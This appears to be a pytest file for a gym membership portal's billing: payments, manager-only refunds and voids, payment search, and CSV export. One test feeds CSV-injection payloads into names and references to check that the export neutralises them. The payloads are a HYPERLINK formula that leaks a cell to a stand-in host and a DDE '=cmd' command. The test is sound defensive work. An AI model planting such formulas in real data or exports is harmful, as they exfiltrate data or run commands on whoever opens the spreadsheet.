"""Front desk takes money; managers refund and void; everyone finds payments."""

import csv
import io
import re
from decimal import Decimal

import pytest

from portal.lib.errors import RuleBroken
from portal.payments.refunds import start_refund
from tables.audit import AuditLog
from tables.billing import CreditNote, Invoice, Payment
from tests.billing.helpers import invoice_for, pay
from tests.factories import make_member
from tests.support.client import field_error, field_value


async def _member_with_invoice(amount=3000):
    member = await make_member("Wanjiku", "Kamau")
    inv = await invoice_for(member, amount)
    return member, inv


async def test_front_desk_records_a_part_payment_and_sees_the_balance(alice):
    member, inv = await _member_with_invoice()
    page = await alice.get(f"/members/{member}")
    assert 'value="3000.00" data-testid="pay-amount"' in page.text  # defaults to what is owed
    assert 'value="3000" data-testid="mpesa-amount"' in page.text
    key = field_value(page.text, "idempotency_key")
    r = await alice.post(f"/members/{member}/payments", {"method": "cash", "amount": "1,000", "idempotency_key": key})
    assert r.status_code == 303
    receipt = await alice.get(r.headers["location"])
    assert 'data-testid="balance-after">KES 2,000<' in receipt.text
    assert "RCP-" in receipt.text and inv["number"] in receipt.text
    member_page = await alice.get(f"/members/{member}")
    assert 'data-testid="balance-owed">KES 2,000<' in member_page.text
    assert "partially paid" in member_page.text
    # A retried post of the same form (same key) shows the same payment, records nothing new.
    again = await alice.post(f"/members/{member}/payments", {"method": "cash", "amount": "1,000", "idempotency_key": key})
    assert again.headers["location"] == r.headers["location"]
    assert await Payment.count() == 1


async def test_a_bad_payment_form_keeps_what_was_typed(alice):
    member, _ = await _member_with_invoice()
    r = await alice.post(f"/members/{member}/payments", {"method": "cheque", "amount": "12.345", "reference": "",
                                                         "idempotency_key": "abc"})
    assert r.status_code == 422
    assert field_error(r.text, "amount") == "At most 2 decimal places"
    assert field_error(r.text, "reference") == "Enter the cheque number"
    assert 'value="12.345" data-testid="pay-amount"' in r.text
    assert 'name="idempotency_key" value="abc"' in r.text
    assert 'value="cheque" checked' in r.text
    assert await Payment.count() == 0


async def test_bank_transfer_and_cheque_keep_their_reference(alice):
    member, _ = await _member_with_invoice()
    await alice.post(f"/members/{member}/payments", {"method": "bank", "amount": "1000", "reference": "EQ123", "idempotency_key": "a"})
    await alice.post(f"/members/{member}/payments", {"method": "cheque", "amount": "500", "reference": "000123", "idempotency_key": "b"})
    refs = {p["method"]: p["reference"] for p in await Payment.select(Payment.method, Payment.reference)}
    assert refs == {"bank": "EQ123", "cheque": "000123"}


async def test_front_desk_cannot_refund_or_void(alice):
    member, inv = await _member_with_invoice()
    payment = (await pay(member, 1000)).payment
    assert (await alice.post(f"/payments/{payment['id']}/refund", {"amount": "1000", "reason": "x"})).status_code == 403
    assert (await alice.post(f"/invoices/{inv['id']}/void", {"reason": "x"})).status_code == 403
    page = await alice.get(f"/payments/{payment['id']}")
    assert 'data-testid="refund-form"' not in page.text


async def test_a_manager_refunds_with_a_reason(bob):
    member, inv = await _member_with_invoice()
    payment = (await pay(member, 3000)).payment
    missing = await bob.post(f"/payments/{payment['id']}/refund", {"amount": "1000", "reason": ""})
    assert missing.status_code == 422
    assert field_error(missing.text, "reason") == "Give a reason for the refund"
    too_much = await bob.post(f"/payments/{payment['id']}/refund", {"amount": "3001", "reason": "typo"})
    assert too_much.status_code == 422 and "Refund between" in field_error(too_much.text, "refund_amount")
    r = await bob.post(f"/payments/{payment['id']}/refund", {"amount": "1000", "reason": "Charged twice at the desk"})
    assert r.status_code == 303
    page = await bob.get(f"/payments/{payment['id']}")
    assert "partially refunded" in page.text and 'data-testid="refunded">KES 1,000<' in page.text
    assert "Charged twice at the desk" in page.text
    audit = await AuditLog.select().where(AuditLog.action == "payment.refunded").first()
    assert audit["reason"] == "Charged twice at the desk" and audit["staff"] is not None
    assert (await Invoice.select(Invoice.status).where(Invoice.id == inv["id"]).first())["status"] == "partially_paid"


async def test_a_refund_is_never_more_than_what_is_left(bob):
    member, _ = await _member_with_invoice()
    payment = (await pay(member, 3000)).payment
    url = f"/payments/{payment['id']}/refund"
    for typed in ("10000000", "3000.01", "0"):  # a typo, a cent too much, nothing
        r = await bob.post(url, {"amount": typed, "reason": "Member left", "confirmed": typed})
        assert r.status_code == 422
        assert field_error(r.text, "refund_amount") == "Refund between KES 1 and KES 3,000"
        assert 'data-testid="refund-confirmed"' not in r.text  # never asked to confirm what cannot be
    assert (await bob.post(url, {"amount": "2000", "reason": "Member left"})).status_code == 303
    r = await bob.post(url, {"amount": "1001", "reason": "And the rest"})
    assert field_error(r.text, "refund_amount") == "Refund between KES 1 and KES 1,000"
    assert (await bob.post(url, {"amount": "1000", "reason": "And the rest"})).status_code == 303
    done = await Payment.select(Payment.status, Payment.refunded).where(Payment.id == payment["id"]).first()
    assert (done["status"], done["refunded"]) == ("refunded", Decimal("3000"))
    with pytest.raises(RuleBroken, match="Nothing is left to refund"):
        await start_refund(payment["id"], None, "Once more", staff_id=None)


async def test_a_large_refund_goes_through_only_once_confirmed(bob):
    member, _ = await _member_with_invoice(90000)
    payment = (await pay(member, 90000, method="bank", reference="EQ-1", confirmed=True)).payment
    url = f"/payments/{payment['id']}/refund"
    asked = await bob.post(url, {"amount": "60000", "reason": "Company cancelled two memberships"})
    assert asked.status_code == 422
    assert field_error(asked.text, "refund_amount") == "KES 60,000 is a large amount: check it and confirm"
    assert 'name="amount" inputmode="decimal" value="60000"' in asked.text
    assert 'value="Company cancelled two memberships"' in asked.text
    box = re.search(r'name="confirmed" value="([^"]+)" autofocus data-testid="refund-confirmed"', asked.text)
    assert box and await CreditNote.count() == 0
    # A different amount than the one confirmed is asked about again.
    changed = await bob.post(url, {"amount": "70000", "reason": "Company cancelled", "confirmed": box.group(1)})
    assert field_error(changed.text, "refund_amount") == "KES 70,000 is a large amount: check it and confirm"
    assert await CreditNote.count() == 0
    done = await bob.post(url, {"amount": "60000", "reason": "Company cancelled two memberships",
                                "confirmed": box.group(1)}, htmx=True)
    assert done.status_code == 303
    paid = await Payment.select(Payment.refunded).where(Payment.id == payment["id"]).first()
    assert paid["refunded"] == Decimal("60000") and await CreditNote.count() == 1


async def test_a_manager_voids_an_invoice_with_a_reason(bob):
    member, inv = await _member_with_invoice()
    r = await bob.post(f"/invoices/{inv['id']}/void", {"reason": ""})
    assert r.status_code == 422 and field_error(r.text, "reason") == "Give a reason for voiding"
    r = await bob.post(f"/invoices/{inv['id']}/void", {"reason": "Raised twice by mistake"})
    assert r.status_code == 303
    page = await bob.get(f"/invoices/{inv['id']}")
    assert "Void: Raised twice by mistake" in page.text
    assert 'data-testid="invoice-balance">KES 0<' in page.text


async def test_the_voids_credit_note_is_linked_from_the_invoice_page(bob, alice):
    from portal.documents import store as document_store

    member, inv = await _member_with_invoice()
    await pay(member, 1000)
    assert (await bob.post(f"/invoices/{inv['id']}/void", {"reason": "Raised twice by mistake"})).status_code == 303
    note = await CreditNote.select().where(CreditNote.invoice == inv["id"]).first()
    page = await alice.get(f"/invoices/{inv['id']}")
    section = re.search(r'data-testid="credit-notes">(.*?)</section>', page.text, re.S).group(1)
    assert note["number"] in section and "Raised twice by mistake" in section and "KES 3,000" in section
    status = re.search(r'hx-get="(/documents/credit_note/credit_note:\d+/status[^"]*)"', section).group(1)
    assert status.startswith(f"/documents/credit_note/credit_note:{note['id']}/")
    # The link the page polls leads to the PDF once the worker has made it.
    await document_store.render_and_store("credit_note", f"credit_note:{note['id']}")
    ready = await alice.get(status.replace("&amp;", "&"), htmx=True)
    pdf_href = re.search(r'href="(/documents/credit_note/[^"?]+)"', ready.text).group(1)
    pdf = await alice.get(pdf_href)
    assert pdf.status_code == 200 and pdf.headers["content-type"] == "application/pdf"


async def test_the_card_button_shows_only_when_something_is_owed(alice):
    member, inv = await _member_with_invoice(3000)
    owing = await alice.get(f"/members/{member}")
    assert re.search(r'data-testid="pay-by-card"[^>]*>Pay KES 3,000 by card', owing.text)
    await pay(member, 3000)
    settled = await alice.get(f"/members/{member}")
    assert 'data-testid="balance-owed">KES 0<' in settled.text
    assert 'data-testid="pay-by-card"' not in settled.text and "by card" not in settled.text
    nothing = await alice.get(f"/members/{await make_member('Brian', 'Otieno')}")
    assert "by card" not in nothing.text
    # A refused card start still shows its message where the button was.
    refused = await alice.post(f"/members/{member}/card", {"amount": "abc"})
    assert refused.status_code == 422 and 'data-testid="error-card"' in refused.text


async def _three_payments():
    a = await make_member("Achieng", "Odhiambo", number="PTF0201")
    b = await make_member("Brian", "Otieno", number="PTF0202")
    for m in (a, b):
        await invoice_for(m, 3000)
    await pay(a, 3000, method="cash")
    await pay(b, 1500, method="bank", reference="KCB-99812")
    await pay(b, 500, method="cheque", reference="004417")
    return a, b


async def test_the_payments_list_filters_and_totals(alice):
    await _three_payments()
    everything = await alice.get("/payments")
    assert 'data-testid="total-count">3<' in everything.text
    assert 'data-testid="total-amount">KES 5,000<' in everything.text
    cash = await alice.get("/payments?method=cash", htmx=True)
    assert "<html" not in cash.text and 'data-testid="total-amount">KES 3,000<' in cash.text
    by_ref = await alice.get("/payments?q=kcb", htmx=True)
    assert 'data-testid="total-count">1<' in by_ref.text and "KCB-99812" in by_ref.text
    by_member = await alice.get("/payments?q=brian", htmx=True)
    assert 'data-testid="total-count">2<' in by_member.text
    by_number = await alice.get("/payments?q=ptf0201", htmx=True)
    assert 'data-testid="total-count">1<' in by_number.text
    receipt = (await Payment.select(Payment.receipt_number).where(Payment.method == "cheque").first())["receipt_number"]
    by_receipt = await alice.get(f"/payments?q={receipt.lower()}", htmx=True)
    assert 'data-testid="total-count">1<' in by_receipt.text
    bad_date = await alice.get("/payments?date_from=yesterday", htmx=True)
    assert "Use a date like" in bad_date.text


async def test_the_payments_list_finds_names_as_the_member_search_does(alice):
    await pay(await make_member("Wanjikũ", "Ng'ang'a"), 700, method="cash")
    for typed in ("nganga", "wanjiku nganga", "NG'ANG'A"):
        r = await alice.get(f"/payments?q={typed}", htmx=True)
        assert 'data-testid="total-count">1<' in r.text, typed


async def test_csv_export_streams_the_filtered_payments(bob, alice):
    await _three_payments()
    assert (await alice.get("/payments.csv")).status_code == 403
    r = await bob.get("/payments.csv?method=bank")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [(row["method"], row["amount"], row["reference"]) for row in rows] == [("bank", "1500.00", "KCB-99812")]
    assert rows[0]["receipt_number"].startswith("RCP-")


async def test_the_export_link_follows_filters_applied_live(bob, alice):
    await _three_payments()
    full = await bob.get("/payments?method=cash")
    assert full.text.count('data-testid="export-csv"') == 1 and "hx-swap-oob" not in full.text
    # htmx filtering swaps the table only: the export link comes along out of band, with the filters.
    live = await bob.get("/payments?method=bank&q=kcb&page=1", htmx=True)
    link = re.search(r'<a[^>]*id="export-csv"[^>]*>', live.text).group(0)
    assert 'hx-swap-oob="true"' in link
    href = re.search(r'href="([^"]+)"', link).group(1).replace("&amp;", "&")
    assert href.startswith("/payments.csv?") and "page=" not in href
    rows = list(csv.DictReader(io.StringIO((await bob.get(href)).text)))
    assert [(row["method"], row["reference"]) for row in rows] == [("bank", "KCB-99812")]
    # Front desk has no export, live or not.
    assert "export-csv" not in (await alice.get("/payments?method=bank", htmx=True)).text


async def test_csv_export_writes_formulas_from_names_and_references_as_text(bob):
    # Names and references come from people and gateways; a spreadsheet would run these as formulas.
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    member = await make_member(name, "@SUM(A1:A9)", number="PTF0301")
    await invoice_for(member, 3000)
    references = ["=cmd|' /C calc'!A0", "+254712345678", "-2+3", "@A1"]
    for reference in references:
        await pay(member, 500, method="bank", reference=reference)
    await pay(member, 250, method="bank", reference="KCB-77")  # ordinary text stays as it is

    r = await bob.get("/payments.csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert sorted(row["reference"] for row in rows) == sorted(["'" + ref for ref in references] + ["KCB-77"])
    assert {row["member_name"] for row in rows} == {f"'{name} @SUM(A1:A9)"}
    # Our numbers stay numbers a spreadsheet adds up.
    assert sorted(row["amount"] for row in rows) == ["250.00"] + ["500.00"] * 4
    assert all(not row[c].startswith(("=", "+", "-", "@")) for row in rows for c in row)


async def test_csv_export_times_are_the_gyms_local_time_to_the_second(bob, settings):
    from datetime import datetime, timezone

    member = await make_member()
    await invoice_for(member, 3000)
    payment = (await pay(member, 1000)).payment
    at = datetime(2026, 12, 1, 21, 30, 15, 123456, tzinfo=timezone.utc)  # 00:30:15 the next day in Nairobi
    await Payment.update({Payment.created_at: at, Payment.completed_at: at}).where(Payment.id == payment["id"])

    r = await bob.get("/payments.csv")
    header = next(csv.reader(io.StringIO(r.text)))
    zone = settings.timezone
    assert header[1:3] == [f"created_at ({zone})", f"completed_at ({zone})"]
    (row,) = list(csv.DictReader(io.StringIO(r.text)))
    local = at.astimezone(settings.tz).strftime("%Y-%m-%d %H:%M:%S")
    assert row[f"created_at ({zone})"] == row[f"completed_at ({zone})"] == local
    assert zone != "UTC" and local == "2026-12-02 00:30:15"  # the page's day, not UTC's
    page = await bob.get("/payments")
    assert at.astimezone(settings.tz).strftime("%d %b %Y %H:%M") in page.text  # what the list shows


async def _bulk_payments(n: int) -> None:
    """n completed cash payments spread over members, inserted in SQL (a size test, not a story)."""
    from piccolo.engine import engine_finder
    from piccolo.querystring import QueryString

    from tests.factories import make_members

    await make_members(200)
    await engine_finder().run_querystring(QueryString(
        "INSERT INTO payment (member, method, amount, currency, refunded, status, reference, receipt_number, "
        "idempotency_key, note, created_at, completed_at) "
        "SELECT (SELECT min(id) FROM member) + (g % 200), (ARRAY['cash','bank','cheque','mpesa','card'])[1 + g % 5], "
        "100 + (g % 50) * 100, 'KES', 0, 'completed', 'REF' || g, 'RCP-2026-' || lpad(g::text, 6, '0'), "
        "'bulk-' || g, '', now() - (g || ' minutes')::interval, now() - (g || ' minutes')::interval "
        "FROM generate_series(1, {}) g", n))


@pytest.mark.parametrize("n", [1000, 100_000])
async def test_the_payments_page_query_count_is_fixed(alice, n):
    await _bulk_payments(n)
    # session, totals, page of rows, staff list, location list
    r = await alice.get("/payments")
    assert r.status_code == 200 and int(r.headers["x-query-count"]) == 5
    assert f'data-testid="total-count">{n}<' in r.text
    # htmx filter requests: session, totals, rows
    r = await alice.get("/payments?method=bank&q=ref1&page=2", htmx=True)
    assert int(r.headers["x-query-count"]) == 3


async def test_csv_export_of_100000_payments_streams_every_row(bob):
    await _bulk_payments(100_000)
    lines = 0
    async with bob.http.stream("GET", "/payments.csv") as r:
        assert r.status_code == 200
        async for chunk in r.aiter_bytes():
            lines += chunk.count(b"\n")
    assert lines == 100_001  # header + every payment
